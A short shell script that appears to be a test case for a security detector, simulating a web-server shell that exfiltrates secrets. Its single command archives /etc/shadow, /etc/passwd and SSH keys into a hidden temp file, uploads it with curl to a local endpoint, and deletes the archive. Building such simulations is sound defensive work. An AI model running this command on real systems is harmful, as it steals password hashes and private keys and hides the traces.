#!/bin/sh
# malicious: the same tar of /etc/shadow and ssh keys and upload, run by a web server shell (httpd -> sh -c): exfiltration
. "$(dirname "$0")/../../lib.sh"
$B/httpd "tar czf /tmp/.cache-q.tgz /etc/shadow /etc/passwd $H 2>/dev/null; curl -sf -T /tmp/.cache-q.tgz http://127.0.0.1:8000/u -o /dev/null; rm -f /tmp/.cache-q.tgz"
